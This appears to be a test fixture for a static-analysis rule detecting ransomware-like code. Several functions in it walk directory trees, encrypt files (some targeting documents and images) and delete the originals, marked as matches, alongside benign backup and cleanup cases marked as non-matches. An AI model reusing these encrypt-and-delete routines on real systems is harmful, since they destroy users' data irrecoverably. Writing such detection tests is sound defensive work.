import glob
import os
from pathlib import Path

from cryptography.fernet import Fernet

key = Fernet.generate_key()
fernet = Fernet(key)


def lock_everything(start):
    for root, dirs, files in os.walk(start):
        for name in files:
            path = os.path.join(root, name)
            with open(path, "rb") as f:
                data = f.read()
            encrypted = fernet.encrypt(data)
            with open(path + ".locked", "wb") as f:
                f.write(encrypted)
            # ruleid: python-ransomware-encrypt-and-delete
            os.remove(path)


def encrypt_file(path):
    with open(path, "rb") as f:
        token = fernet.encrypt(f.read())
    with open(path + ".enc", "wb") as f:
        f.write(token)


def sweep(home):
    for p in Path(home).rglob("*"):
        if p.is_file() and p.suffix in {".docx", ".pdf", ".jpg"}:
            encrypt_file(str(p))
            # ruleid: python-ransomware-encrypt-and-delete
            p.unlink()


def sweep_glob(target):
    from Crypto.Cipher import AES
    for fn in glob.glob(target + "/**/*", recursive=True):
        cipher = AES.new(key[:16], AES.MODE_EAX)
        with open(fn, "rb") as f:
            ct, tag = cipher.encrypt_and_digest(f.read())
        with open(fn + ".crypt", "wb") as f:
            f.write(cipher.nonce + tag + ct)
        # ruleid: python-ransomware-encrypt-and-delete
        os.unlink(fn)


def encrypt_one(path):
    # Encrypts one chosen file and keeps the original.
    with open(path, "rb") as f:
        token = fernet.encrypt(f.read())
    with open(path + ".enc", "wb") as f:
        f.write(token)


def backup_tree(src):
    # Encrypted backup: originals stay in place.
    for root, _, files in os.walk(src):
        for name in files:
            encrypt_file(os.path.join(root, name))


def clean_tmp(tmpdir):
    for root, _, files in os.walk(tmpdir):
        for name in files:
            if name.endswith(".tmp"):
                # ok: python-ransomware-encrypt-and-delete
                os.remove(os.path.join(root, name))


def rotate_logs(logdir):
    for fn in glob.glob(os.path.join(logdir, "*.log.*")):
        # ok: python-ransomware-encrypt-and-delete
        os.remove(fn)
